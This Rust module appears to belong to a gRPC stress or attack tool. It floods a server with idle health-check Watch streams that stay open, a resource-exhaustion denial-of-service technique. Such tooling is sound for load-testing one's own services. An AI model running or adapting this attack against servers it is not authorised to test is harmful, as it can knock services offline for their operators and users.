//! Idle streams of `grpc.health.v1.Health/Watch`: the server sends one status and then keeps each
//! stream open.

use std::sync::Arc;

use serde_json::Value;

use super::calls::{AttackCall, AttackCalls};
use super::{AttackArgs, frames, storm};
use crate::Outcome;

#[derive(Debug, clap::Args)]
pub(crate) struct WatchesArgs {
    #[command(flatten)]
    attack: AttackArgs,
    /// Number of streams on each connection.
    #[arg(long, value_name = "COUNT", default_value_t = 1)]
    streams: usize,
}

pub(crate) async fn run(args: WatchesArgs) -> Outcome<Value> {
    let streams = args.streams;
    Ok(storm(&args.attack, |attacker| async move {
        let fields = [("content-type", "application/grpc"), ("te", "trailers")];
        let block = frames::request("POST", "/grpc.health.v1.Health/Watch", &fields);
        let message: Arc<[u8]> = Arc::new([0; 5]);
        let calls = AttackCalls {
            call: |_| AttackCall {
                block: block.clone(),
                body: Arc::clone(&message),
            },
            ends: true,
            reads: true,
            streams,
            most: streams as u64,
        };
        while attacker.goes_on() {
            let _ = calls.pour(&attacker).await;
        }
    })
    .await)
}
